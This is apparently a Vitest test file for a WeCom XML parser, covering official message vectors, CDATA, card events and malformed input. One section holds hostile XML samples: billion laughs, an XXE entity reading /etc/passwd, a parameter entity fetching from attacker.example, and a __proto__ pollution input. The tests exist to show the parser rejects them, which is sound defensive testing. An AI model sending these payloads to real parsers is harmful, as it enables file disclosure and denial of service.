import { describe, expect, it } from 'vitest';
import { createWecomCrypto } from '../../../src/platforms/wecom/crypto.js';
import { parseWecomXml, WecomXmlError } from '../../../src/platforms/wecom/xml.js';
import { wecomPost, wecomTextXml } from '../../helpers/wecom-sign.js';

// Decrypted messages of the official vectors (shared/docs/platforms.md C2), B's envelope as the
// sample shows it, and the template_card_event with SelectedItems from WxJava's
// WxCpXmlMessageTest.testTemplateCardEvent (platforms.md B2).
const A_PLAIN =
  '<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>\n<FromUserName><![CDATA[mycreate]]></FromUserName>\n<CreateTime>1409659813</CreateTime>\n<MsgType><![CDATA[text]]></MsgType>\n<Content><![CDATA[hello]]></Content>\n<MsgId>4561255354251345929</MsgId>\n<AgentID>218</AgentID>\n</xml>';
const B_PLAIN =
  '<xml><ToUserName>ww1436e0e65a779aee</ToUserName><FromUserName>ChenJiaShun</FromUserName><CreateTime>1476422779</CreateTime><MsgType>text</MsgType><Content>你好</Content><MsgId>1456453720</MsgId><AgentID>1000002</AgentID></xml>';
const B_ENVELOPE =
  '<xml><ToUserName><![CDATA[ww1436e0e65a779aee]]></ToUserName>\n<Encrypt><![CDATA[Kl7kjoSf6DMD1zh7rtrHjFaDapSCkaOnwu3bqLc5tAybhhMl9pFeK8Ns]]></Encrypt>\n<AgentID><![CDATA[1000002]]></AgentID>\n</xml>';
const CARD_EVENT = [
  '<xml>',
  '<ToUserName><![CDATA[toUser]]></ToUserName>',
  '<FromUserName><![CDATA[FromUser]]></FromUserName>',
  '<CreateTime>123456789</CreateTime>',
  '<MsgType><![CDATA[event]]></MsgType>',
  '<Event><![CDATA[template_card_event]]></Event>',
  '<EventKey><![CDATA[key111]]></EventKey>',
  '<TaskId><![CDATA[taskid111]]></TaskId>',
  '<CardType><![CDATA[text_notice]]></CardType>',
  '<ResponseCode><![CDATA[ResponseCode]]></ResponseCode>',
  '<AgentID>1</AgentID>',
  '<SelectedItems>',
  '    <SelectedItem>',
  '        <QuestionKey><![CDATA[QuestionKey1]]></QuestionKey>',
  '        <OptionIds>',
  '            <OptionId><![CDATA[OptionId1]]></OptionId>',
  '            <OptionId><![CDATA[OptionId2]]></OptionId>',
  '        </OptionIds>',
  '    </SelectedItem>',
  '    <SelectedItem>',
  '        <QuestionKey><![CDATA[QuestionKey2]]></QuestionKey>',
  '        <OptionIds>',
  '            <OptionId><![CDATA[OptionId3]]></OptionId>',
  '            <OptionId><![CDATA[OptionId4]]></OptionId>',
  '        </OptionIds>',
  '    </SelectedItem>',
  '</SelectedItems>',
  '</xml>',
].join('\n');

const reasonOf = (text: string) => {
  try {
    parseWecomXml(text);
  } catch (err) {
    return err instanceof WecomXmlError ? err.reason : `untyped: ${String(err)}`;
  }
  return 'accepted';
};

describe('parseWecomXml on the official messages', () => {
  it('vector A: CDATA unwrapped, every value a string, nothing else', () => {
    expect(parseWecomXml(A_PLAIN)).toEqual({
      ToUserName: 'wx5823bf96d3bd56c7',
      FromUserName: 'mycreate',
      CreateTime: '1409659813',
      MsgType: 'text',
      Content: 'hello',
      MsgId: '4561255354251345929',
      AgentID: '218',
    });
  });

  it('keeps MsgId 4561255354251345929 exact (a JS number would round it)', () => {
    expect(parseWecomXml(A_PLAIN).MsgId).toBe('4561255354251345929');
    expect(String(Number('4561255354251345929'))).not.toBe('4561255354251345929');
  });

  it('vector B: plain text values and UTF-8 content', () => {
    expect(parseWecomXml(B_PLAIN)).toEqual({
      ToUserName: 'ww1436e0e65a779aee',
      FromUserName: 'ChenJiaShun',
      CreateTime: '1476422779',
      MsgType: 'text',
      Content: '你好',
      MsgId: '1456453720',
      AgentID: '1000002',
    });
  });

  it('the POST envelope, as in the sample', () => {
    expect(parseWecomXml(B_ENVELOPE)).toEqual({
      ToUserName: 'ww1436e0e65a779aee',
      Encrypt: 'Kl7kjoSf6DMD1zh7rtrHjFaDapSCkaOnwu3bqLc5tAybhhMl9pFeK8Ns',
      AgentID: '1000002',
    });
  });

  it('an XML declaration is allowed and dropped', () => {
    expect(parseWecomXml(`<?xml version="1.0" encoding="UTF-8"?>\n${B_PLAIN}`)).toEqual(parseWecomXml(B_PLAIN));
  });
});

describe('CDATA', () => {
  it.each([
    ['markup and entity references, raw', '<b>A&amp;B</b> & <', '<b>A&amp;B</b> & <'],
    ['leading and trailing spaces and newlines', '  云帆科技 王总\n下周二报价  ', '  云帆科技 王总\n下周二报价  '],
    ['an empty section', '', ''],
    ['a note with emoji', '签了 🎉', '签了 🎉'],
  ])('keeps %s', (_label, inner, expected) => {
    expect(parseWecomXml(`<xml><Content><![CDATA[${inner}]]></Content></xml>`).Content).toBe(expected);
  });

  it('does not decode entity references outside CDATA either (entities are off; WeCom sends text as CDATA)', () => {
    expect(parseWecomXml('<xml><Content>A&amp;B &#60;</Content></xml>').Content).toBe('A&amp;B &#60;');
  });
});

describe('template_card_event', () => {
  it('parses the sample with SelectedItems into stable arrays and no whitespace text nodes', () => {
    expect(parseWecomXml(CARD_EVENT)).toEqual({
      ToUserName: 'toUser',
      FromUserName: 'FromUser',
      CreateTime: '123456789',
      MsgType: 'event',
      Event: 'template_card_event',
      EventKey: 'key111',
      TaskId: 'taskid111',
      CardType: 'text_notice',
      ResponseCode: 'ResponseCode',
      AgentID: '1',
      SelectedItems: {
        SelectedItem: [
          { QuestionKey: 'QuestionKey1', OptionIds: { OptionId: ['OptionId1', 'OptionId2'] } },
          { QuestionKey: 'QuestionKey2', OptionIds: { OptionId: ['OptionId3', 'OptionId4'] } },
        ],
      },
    });
  });

  it('keeps one SelectedItem and one OptionId as arrays of one', () => {
    const xml =
      '<xml><Event><![CDATA[template_card_event]]></Event><SelectedItems><SelectedItem><QuestionKey><![CDATA[q]]></QuestionKey><OptionIds><OptionId><![CDATA[o]]></OptionId></OptionIds></SelectedItem></SelectedItems></xml>';
    expect(parseWecomXml(xml).SelectedItems).toEqual({ SelectedItem: [{ QuestionKey: 'q', OptionIds: { OptionId: ['o'] } }] });
  });

  it('parses a button_interaction click (the shape our cards send)', () => {
    const xml =
      '<xml><ToUserName><![CDATA[ww1]]></ToUserName><FromUserName><![CDATA[zhangsan]]></FromUserName><CreateTime>1700000000</CreateTime><MsgType><![CDATA[event]]></MsgType><Event><![CDATA[template_card_event]]></Event><EventKey><![CDATA[a=fu.undo&id=7]]></EventKey><TaskId><![CDATA[gj_1]]></TaskId><CardType><![CDATA[button_interaction]]></CardType><ResponseCode><![CDATA[RC_1]]></ResponseCode><AgentID>1000002</AgentID></xml>';
    expect(parseWecomXml(xml)).toEqual({
      ToUserName: 'ww1',
      FromUserName: 'zhangsan',
      CreateTime: '1700000000',
      MsgType: 'event',
      Event: 'template_card_event',
      EventKey: 'a=fu.undo&id=7',
      TaskId: 'gj_1',
      CardType: 'button_interaction',
      ResponseCode: 'RC_1',
      AgentID: '1000002',
    });
  });
});

describe('DOCTYPE and entities are refused before parsing', () => {
  const laughs = [
    '<?xml version="1.0"?>',
    '<!DOCTYPE lolz [',
    ' <!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
    ']>',
    '<xml><Content>&lol9;</Content></xml>',
  ].join('\n');

  it.each([
    ['an internal entity', '<!DOCTYPE xml [<!ENTITY x "boom">]><xml><Content>&x;</Content></xml>'],
    ['billion laughs', laughs],
    ['an external entity (XXE)', '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>'],
    ['a parameter entity', '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><xml/>'],
    ['a lower-case doctype', '<!doctype xml SYSTEM "file:///etc/passwd"><xml><a>1</a></xml>'],
    ['a mixed-case ENTITY without a DOCTYPE', '<xml><!EnTiTy x "y"><a>1</a></xml>'],
    ['a DOCTYPE after the root', '<xml><a>1</a></xml><!DOCTYPE x>'],
  ])('%s', (_label, xml) => {
    expect(reasonOf(xml)).toBe('doctype_or_entity');
  });

  it('refuses them inside the decrypted message too (same parser, second pass)', () => {
    const corpId = 'ww1436e0e65a779aee';
    const app = { token: 'hJqcu3uJ9Tn2gXPmxx2w9kkCkCE2EPYo', encodingAesKey: '6qkdMrq68nTKduznJYO1A37W2oEgpkMUvkttRToqhUt', corpId };
    const inner = `${laughs.replace(/<xml>.*<\/xml>/, '')}\n${wecomTextXml({ corpId, from: 'u', content: 'x', msgId: '1', createTime: 1_700_000_000 }).replace('<![CDATA[x]]>', '&lol9;')}`;
    const post = wecomPost({ ...app, xml: inner, timestamp: 1_700_000_000 });
    const envelope = parseWecomXml(post.body);
    expect(typeof envelope.Encrypt).toBe('string');
    const decrypted = createWecomCrypto({ token: app.token, encodingAesKey: app.encodingAesKey, receiveId: corpId }).decrypt(
      String(envelope.Encrypt),
    );
    expect(decrypted).toContain('<!ENTITY lol9');
    expect(reasonOf(decrypted)).toBe('doctype_or_entity');
  });
});

describe('malformed or foreign XML', () => {
  it.each([
    ['an unclosed element', '<xml><Encrypt>', 'malformed_xml'],
    ['mismatched tags', '<xml><a>1</b></xml>', 'malformed_xml'],
    ['plain text', 'not xml at all', 'malformed_xml'],
    ['an empty body', '', 'malformed_xml'],
    ['two roots', '<xml><a>1</a></xml><xml><a>2</a></xml>', 'malformed_xml'],
    ['an unterminated CDATA', '<xml><a><![CDATA[x</a></xml>', 'malformed_xml'],
    ['text mixed with elements', '<xml><Content>hi<b>1</b></Content></xml>', 'malformed_xml'],
    ['nesting deeper than any WeCom message', `<xml>${'<a>'.repeat(25)}x${'</a>'.repeat(25)}</xml>`, 'malformed_xml'],
    ['a __proto__ element', '<xml><__proto__><polluted>yes</polluted></__proto__></xml>', 'malformed_xml'],
    ['another root element', '<root><a>1</a></root>', 'not_wecom_xml'],
    ['an empty root', '<xml/>', 'not_wecom_xml'],
    ['a root with text only', '<xml>text</xml>', 'not_wecom_xml'],
  ])('%s → %s', (_label, xml, reason) => {
    expect(reasonOf(xml)).toBe(reason);
  });

  it('never touches Object.prototype', () => {
    reasonOf(
      '<xml><__proto__><polluted>yes</polluted></__proto__><constructor><prototype><polluted>yes</polluted></prototype></constructor></xml>',
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});
